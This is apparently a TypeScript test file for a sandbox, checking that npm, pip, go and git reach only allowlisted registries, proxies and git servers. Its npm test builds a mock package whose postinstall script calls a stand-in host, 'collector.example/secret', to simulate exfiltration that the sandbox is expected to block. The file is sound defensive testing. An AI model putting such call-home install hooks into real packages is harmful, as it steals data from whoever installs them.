/** Package managers and git do their work inside of `run`, where exactly their servers are allowed, and what comes with a package reaches nothing else. */
import assert from 'node:assert/strict';
import { execFileSync, spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { createReadStream, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import type { RequestListener } from 'node:http';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { type TestContext, test } from 'node:test';
import { findTool } from '../tools.ts';
import { Outside, UNPROXIED, workNeeds } from './outside.ts';

/** A folder of these files. */
function filesIn(t: TestContext, files: Readonly<Record<string, string>>): string {
  const folder = mkdtempSync(join(tmpdir(), 'sallyport-packages-'));
  t.after(() => rmSync(folder, { recursive: true }));
  for (const [name, text] of Object.entries(files)) {
    mkdirSync(dirname(join(folder, name)), { recursive: true });
    writeFileSync(join(folder, name), text);
  }
  return folder;
}

/** Answers with the files of a folder, by their paths. */
function fileServer(folder: string): RequestListener {
  return (request, response) => {
    const path = join(folder, decodeURIComponent(new URL(request.url!, 'http://x').pathname));
    if (path.startsWith(`${folder}/`) && existsSync(path))
      createReadStream(path)
        .on('error', () => response.destroy())
        .pipe(response);
    else response.writeHead(404).end();
  };
}

test('npm ci: the registry is reached, and what an install script calls is not', { skip: workNeeds('npm', 'tar') }, async (t) => {
  const outside = await Outside.start(t);
  const stolen: string[] = [];
  await outside.http('collector.example', (request, response) => {
    stolen.push(request.url!);
    response.end();
  });
  const callHome = `require('http').get('http://collector.example/secret', (r) => require('fs').writeFileSync('said', String(r.statusCode)))
    .on('error', (error) => require('fs').writeFileSync('said', error.code));`;
  const manifest = { name: 'left', version: '1.0.0', main: 'index.js', scripts: { postinstall: 'node call-home.js' } };
  const folder = filesIn(t, {
    'package/package.json': JSON.stringify(manifest),
    'package/index.js': "module.exports = 'left works';\n",
    'package/call-home.js': callHome,
  });
  const tarball = execFileSync('tar', ['-cz', '-C', folder, 'package']);
  const ca = await outside.https('registry.example', (request, response) => {
    if (request.url === '/left/-/left-1.0.0.tgz') response.end(tarball);
    else response.writeHead(404).end();
  });
  const resolved = 'https://registry.example/left/-/left-1.0.0.tgz';
  const integrity = `sha512-${createHash('sha512').update(tarball).digest('base64')}`;
  const project = { name: 'project', version: '1.0.0', dependencies: { left: '1.0.0' }, allowScripts: { left: true } };
  outside.file('package.json', JSON.stringify(project));
  const packages = { '': project, 'node_modules/left': { version: '1.0.0', resolved, integrity, hasInstallScript: true } };
  outside.file('package-lock.json', JSON.stringify({ ...project, lockfileVersion: 3, requires: true, packages }));

  const install = 'npm ci --registry https://registry.example/ --no-audit --no-fund --no-update-notifier';
  const use = `node -p 'require("left")'; cat node_modules/left/said; echo`;
  for (const [prefix, said] of [
    ['', '403'],
    [UNPROXIED, 'ENOTFOUND'],
  ] as const) {
    const script = `rm -rf node_modules .npm; ${prefix} ${install}; ${use}`;
    const { code, stdout, stderr, calls } = await outside.run(script, ['https://registry.example'], {
      environment: { npm_config_cafile: ca, NODE_EXTRA_CA_CERTS: ca },
    });
    assert.equal(code, 0, stderr + stdout);
    assert.match(stdout, new RegExp(`left works\n${said}\n$`));
    const refused = prefix === '' ? 'collector.example:80 refused' : 'collector.example:0 unresolved';
    assert.deepEqual(calls, [refused, 'registry.example:443 allowed'], stderr);
  }
  assert.deepEqual(stolen, []);
  assert.ok(!outside.asked.has('collector.example'));
});

test('pip download: from the one index that is allowed', { skip: workNeeds('python3', 'pip3') }, async (t) => {
  const outside = await Outside.start(t);
  const wheel = 'right-1.0.0-py3-none-any.whl';
  const metadata = 'right-1.0.0.dist-info';
  const folder = filesIn(t, {
    'right.py': "said = 'right works'\n",
    [`${metadata}/METADATA`]: 'Metadata-Version: 2.1\nName: right\nVersion: 1.0.0\n',
    [`${metadata}/WHEEL`]: 'Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n',
    [`${metadata}/RECORD`]: '',
  });
  execFileSync('python3', ['-m', 'zipfile', '-c', wheel, 'right.py', metadata], { cwd: folder });
  const bytes = readFileSync(join(folder, wheel));
  const hash = createHash('sha256').update(bytes).digest('hex');
  const ca = await outside.https('index.example', (request, response) => {
    if (request.url === '/simple/right/')
      response.setHeader('content-type', 'text/html').end(`<a href="../../files/${wheel}#sha256=${hash}">${wheel}</a>`);
    else if (request.url === `/files/${wheel}`) response.end(bytes);
    else response.writeHead(404).end();
  });
  const download = 'pip3 download -q --disable-pip-version-check --no-cache-dir --retries 0 -d got';
  for (const prefix of ['', UNPROXIED]) {
    const script = `rm -rf got; ${prefix} ${download} -i https://index.example/simple/ right; PYTHONPATH=got/${wheel} python3 -c 'import right; print(right.said)'
      ${prefix} ${download} -i https://other.example/simple/ right >/dev/null 2>&1 || echo refused`;
    const { code, stdout, stderr, calls } = await outside.run(script, ['https://index.example'], { environment: { PIP_CERT: ca } });
    assert.equal(code, 0, stderr + stdout);
    assert.equal(stdout, 'right works\nrefused\n', stderr);
    const refused = prefix === '' ? 'other.example:443 refused' : 'other.example:0 unresolved';
    assert.deepEqual(calls, ['index.example:443 allowed', refused], stderr);
  }
  assert.ok(!outside.asked.has('other.example'));
});

/** No package of CI's, as it would be a compiler for one client; where it is, it is tried. */
const hasGo = findTool('go') !== undefined || existsSync('/usr/local/go/bin/go');

test('go mod download: from the one proxy that is allowed, and not from where modules are', {
  skip: workNeeds('python3') || (hasGo ? false : 'go is not installed (Debian: apt-get install golang-go)'),
}, async (t) => {
  const outside = await Outside.start(t);
  const path = 'down.example/module';
  const mod = `module ${path}\n\ngo 1.20\n`;
  const folder = filesIn(t, {
    [`${path}@v1.0.0/go.mod`]: mod,
    [`${path}@v1.0.0/down.go`]: 'package module\n\nconst Said = "module works"\n',
    [`${path}/@v/v1.0.0.info`]: '{"Version":"v1.0.0"}',
    [`${path}/@v/v1.0.0.mod`]: mod,
  });
  // The module's folder must be named as it is, with both of its elements.
  const zip = `import zipfile; z = zipfile.ZipFile("${path}/@v/v1.0.0.zip", "w"); [z.write(f) for f in ("${path}@v1.0.0/go.mod", "${path}@v1.0.0/down.go")]; z.close()`;
  execFileSync('python3', ['-c', zip], { cwd: folder });
  await outside.http('goproxy.example', fileServer(folder));
  outside.file('go.mod', `module project\n\ngo 1.20\n\nrequire ${path} v1.0.0\n`);
  const environment = { GOTOOLCHAIN: 'local', GOFLAGS: '-modcacherw', GONOSUMDB: '*' };
  for (const prefix of ['', UNPROXIED]) {
    const script = `rm -rf go; GOPROXY=http://goproxy.example ${prefix} go mod download; cat go/pkg/mod/${path}@v1.0.0/down.go
      rm -rf go; GOPROXY=direct ${prefix} go mod download >/dev/null 2>&1 || echo refused`;
    const { code, stdout, stderr, calls } = await outside.run(script, ['http://goproxy.example'], { environment });
    assert.equal(code, 0, stderr + stdout);
    assert.match(stdout, /Said = "module works"\nrefused\n$/, stderr);
    const refused = prefix === '' ? ['down.example:443 refused'] : ['down.example:0 unresolved'];
    assert.deepEqual(calls, [...refused, 'goproxy.example:80 allowed'], stderr);
  }
});

test('git: clone, fetch and push over https, by the smart protocol', { skip: workNeeds('git') }, async (t) => {
  const outside = await Outside.start(t);
  const root = filesIn(t, {});
  const git = (...args: string[]) =>
    execFileSync('git', args, { cwd: root, env: { ...process.env, GIT_CONFIG_GLOBAL: '/dev/null', ...AUTHOR }, stdio: 'pipe' });
  git('init', '-q', '-b', 'main', 'work');
  writeFileSync(join(root, 'work/README'), 'cloned works\n');
  git('-C', 'work', 'add', '.');
  git('-C', 'work', 'commit', '-q', '-m', 'first');
  git('clone', '-q', '--bare', 'work', 'repo.git');
  git('-C', 'repo.git', 'config', 'http.receivepack', 'true');
  const ca = await outside.https('git.example', httpBackend(root));
  const environment = { GIT_SSL_CAINFO: ca, GIT_TERMINAL_PROMPT: '0', ...AUTHOR };
  for (const prefix of ['', UNPROXIED]) {
    const script = `rm -rf repo; ${prefix} git clone -q https://git.example/repo.git; cat repo/README; cd repo
      echo more >>README; git commit -qam more; ${prefix} git push -q; ${prefix} git fetch -q
      ${prefix} git ls-remote https://elsewhere.example/repo.git >/dev/null 2>&1 || echo refused`;
    const { code, stdout, stderr, calls } = await outside.run(script, ['https://git.example'], { environment });
    assert.equal(code, 0, stderr + stdout);
    assert.match(stdout, /^cloned works\n(more\n)?refused\n$/, stderr);
    const refused = prefix === '' ? 'elsewhere.example:443 refused' : 'elsewhere.example:0 unresolved';
    assert.deepEqual(calls, [refused, 'git.example:443 allowed'], stderr);
  }
  assert.equal(git('-C', 'repo.git', 'rev-list', '--count', 'main').toString(), '3\n');
});

const AUTHOR = {
  GIT_AUTHOR_NAME: 'a',
  GIT_AUTHOR_EMAIL: 'a@example.com',
  GIT_COMMITTER_NAME: 'a',
  GIT_COMMITTER_EMAIL: 'a@example.com',
};

/** git's own server program behind an HTTP server (git-http-backend(1), a CGI of RFC 3875). */
function httpBackend(root: string): RequestListener {
  return (request, response) => {
    const { pathname, search } = new URL(request.url!, 'http://x');
    const environment = {
      ...process.env,
      GIT_PROJECT_ROOT: root,
      GIT_HTTP_EXPORT_ALL: '1',
      PATH_INFO: pathname,
      QUERY_STRING: search.slice(1),
      REQUEST_METHOD: request.method,
      REMOTE_ADDR: '127.0.0.1',
      CONTENT_TYPE: request.headers['content-type'] ?? '',
      HTTP_CONTENT_ENCODING: request.headers['content-encoding'] ?? '',
      GIT_PROTOCOL: request.headers['git-protocol']?.toString() ?? '',
    };
    const child = spawn('git', ['http-backend'], { env: environment, stdio: ['pipe', 'pipe', 'inherit'] });
    request.pipe(child.stdin);
    child.stdin.on('error', () => undefined);
    const parts: Buffer[] = [];
    child.stdout.on('data', (part: Buffer) => parts.push(part));
    child.on('close', () => {
      const all = Buffer.concat(parts);
      const end = all.indexOf('\r\n\r\n');
      for (const line of all.subarray(0, end).toString().split('\r\n')) {
        const [name, ...value] = line.split(': ');
        if (name === 'Status') response.statusCode = Number.parseInt(value[0]!, 10);
        else response.setHeader(name!, value.join(': '));
      }
      response.end(all.subarray(end + 4));
    });
  };
}
